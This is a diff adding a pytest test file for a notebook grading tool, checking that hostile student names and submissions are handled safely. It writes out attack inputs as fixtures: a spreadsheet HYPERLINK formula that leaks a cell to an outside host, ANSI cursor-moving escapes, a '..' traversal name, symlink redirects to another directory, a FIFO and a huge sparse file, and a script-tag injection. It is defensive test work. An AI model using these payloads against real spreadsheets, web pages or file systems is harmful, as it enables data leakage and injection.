@@ -1,0 +1,174 @@
+"""A class whose names and files mean harm: everybody else is marked, and nothing is taken for another's."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import sys
+from pathlib import Path
+
+import nbformat
+import pytest
+from fault_assignment import ALL, NAME, SOLUTIONS, assignment, cell_of
+from test_mark import make_course, mark
+
+from gatescope.grading.commands import printable
+from gatescope.grading.exercises import NotebookError
+from gatescope.grading.submitted import read_submission
+
+FORMULA = '=HYPERLINK("example.org?"&B2)'
+PARTED = "anna;=1+1"
+MOVES = "zoe\x1b[2K\x1b[1Aodd: nobody"
+NO_TEXT = os.fsdecode(b"\xff\xfe")
+
+
+def right_one() -> str:
+    notebook = assignment()
+    for id_, solution in SOLUTIONS.items():
+        cell_of(notebook, id_).source = solution
+    return json.dumps(notebook)
+
+
+def put(course: Path, student: str, text: str) -> Path:
+    file = course / "submitted" / student / NAME / f"{NAME}.ipynb"
+    file.parent.mkdir(parents=True)
+    file.write_text(text, "utf-8")
+    return file
+
+
+@pytest.fixture(scope="module")
+def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, dict], str]:
+    """The course after marking with feedback, the marks by student, and what was said."""
+    course = tmp_path_factory.mktemp("course")
+    source = make_course(course)
+    right = right_one()
+    for student in (FORMULA, PARTED, MOVES, NO_TEXT, "..mallory", "grown"):
+        put(course, student, right)
+    pipe = put(course, "pipe", right)
+    pipe.unlink()
+    os.mkfifo(pipe)
+    with put(course, "huge", right).open("r+b") as file:
+        file.truncate(1 << 40)
+    put(course, "folder", right).unlink()
+    (course / "submitted" / "folder" / NAME / f"{NAME}.ipynb").mkdir()
+    (course / "submitted" / "all-a-link").symlink_to(course / "submitted" / "grown")
+    (course / "submitted" / ".cache").mkdir()
+    # As some systems hand files in: beside a folder of the same name it is another's.
+    (course / "submitted" / "grown.ipynb").write_text(json.dumps(assignment() | {"cells": []}))
+    done = mark(course, "--jobs", "2", "--seconds", "15", "--feedback", "feedback")
+    assert done.returncode == 0, done.stdout + done.stderr
+    results = [json.loads(file.read_text()) for file in (course / "marks").glob("*.json")]
+    assert source.is_file()
+    return course, {result["student"]: result for result in results}, done.stdout
+
+
+def test_each_is_marked_once_and_for_its_own(marked) -> None:
+    _, results, _ = marked
+    nothing = {"pipe", "huge", "folder", "all-a-link", "grown.ipynb"}
+    whole = {FORMULA, PARTED, MOVES, NO_TEXT, "..mallory", "grown"}
+    assert {name: result["points"] for name, result in results.items()} == {
+        **dict.fromkeys(nothing, 0),
+        **dict.fromkeys(whole, sum(ALL)),
+    }
+
+
+@pytest.mark.parametrize(
+    ("student", "note"),
+    [
+        ("pipe", "what stands there is no file"),
+        ("folder", "what stands there is no file"),
+        ("huge", "1048576 MB; at most 256 are read"),
+        ("all-a-link", "a link, which is not followed"),
+    ],
+)
+def test_what_stands_in_its_place_is_told(marked, student: str, note: str) -> None:
+    _, results, said = marked
+    assert note in results[student]["odd"][0]
+    assert f"odd: {student}, {NAME}.ipynb: {results[student]['odd'][0]}" in said
+
+
+def test_no_name_is_a_formula_or_a_second_cell_of_a_spreadsheet(marked) -> None:
+    course, _, _ = marked
+    text = (course / "marks" / "marks.csv").read_text("utf-8")
+    assert f'"{PARTED}"' in text, "without quotes a semicolon parts the cell"
+    names = [row["student"] for row in csv.DictReader(text.splitlines())]
+    assert f"'{FORMULA}" in names
+    assert all(name[0] not in "=+-@" for name in names)
+    assert "\\udcff\\udcfe" in names
+
+
+def test_nothing_that_is_said_moves_the_cursor(marked) -> None:
+    _, _, said = marked
+    assert "\x1b" not in said
+    assert printable("a\x1b[1A\nb\udcff é") == r"a\x1b[1A\nb\udcff é"
+
+
+def test_everybody_gets_feedback(marked) -> None:
+    course, results, _ = marked
+    assert {page.parent.name for page in (course / "feedback").rglob("*.html")} == set(results)
+
+
+def test_the_grade_book_takes_every_name(marked, monkeypatch: pytest.MonkeyPatch) -> None:
+    pytest.importorskip("nbgrader")
+    from nbgrader.api import Gradebook
+
+    from gatescope.grading.gradebook import write_gradebook
+
+    course, results, _ = marked
+    # nbgrader calls alembic by its bare name.
+    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
+    url = f"sqlite:///{course / 'gradebook.db'}"
+    with Gradebook(url) as book:
+        book.add_assignment(NAME)
+        book.add_notebook(NAME, NAME)
+        for test in (test for each in results["grown"]["exercises"] for test in each["tests"]):
+            book.add_grade_cell(
+                test["id"], NAME, NAME, max_score=test["maxPoints"], cell_type="code"
+            )
+    write_gradebook(url, course / "source" / NAME, list(results.values()))
+    with Gradebook(url) as book:
+        scores = {each.student.id: each.score for each in book.assignment_submissions(NAME)}
+    assert scores[FORMULA] == scores["\\udcff\\udcfe"] == sum(ALL)
+    assert scores["pipe"] == 0 and len(scores) == len(results)
+
+
+def test_an_answer_by_hand_brings_no_file_and_no_script_into_feedback(tmp_path: Path) -> None:
+    source = make_course(tmp_path)
+    notebook = nbformat.read(source, as_version=4)
+    task = nbformat.v4.new_markdown_cell("Explain.", id="why")
+    task.metadata.nbgrader = {
+        "schema_version": 3, "grade_id": "why", "grade": True, "solution": True, "locked": False,
+        "task": False, "points": 2,
+    }  # fmt: skip
+    notebook.cells.append(task)
+    nbformat.write(notebook, source)
+    cell_of(notebook, "why").source = (
+        f"![](source/{NAME}/{NAME}.ipynb) <img src='source/{NAME}/{NAME}.ipynb'> my words"
+        "<script>alert(1)</script>"
+    )
+    put(tmp_path, "mallory", json.dumps(notebook))
+    assert mark(tmp_path, "--feedback", "feedback").returncode == 0
+    page = (tmp_path / "feedback" / "mallory" / f"{NAME}.html").read_text("utf-8")
+    assert "my words" in page
+    assert "base64" not in page.split("my words")[0].split("Explain")[-1][-20_000:]
+    assert "<script>alert" not in page
+
+
+def test_a_name_that_becomes_a_link_is_not_followed(tmp_path: Path) -> None:
+    course = tmp_path / "submitted"
+    file = put(tmp_path, "student", "mine")
+    assert read_submission(file, 3) == b"mine"
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / file.name).write_text("theirs")
+    for below, place in ((1, file), (2, file.parent), (3, course / "student")):
+        place.rename(tmp_path / f"before-{below}")
+        place.symlink_to(secret / file.name if below == 1 else secret, target_is_directory=True)
+        with pytest.raises(NotebookError, match="a link, which is not followed"):
+            read_submission(file, 3)
+        place.unlink()
+        (tmp_path / f"before-{below}").rename(place)
+    # What the teacher made may be a link: a course on another disk.
+    (tmp_path / "elsewhere").symlink_to(course, target_is_directory=True)
+    assert read_submission(tmp_path / "elsewhere" / "student" / NAME / file.name, 3) == b"mine"
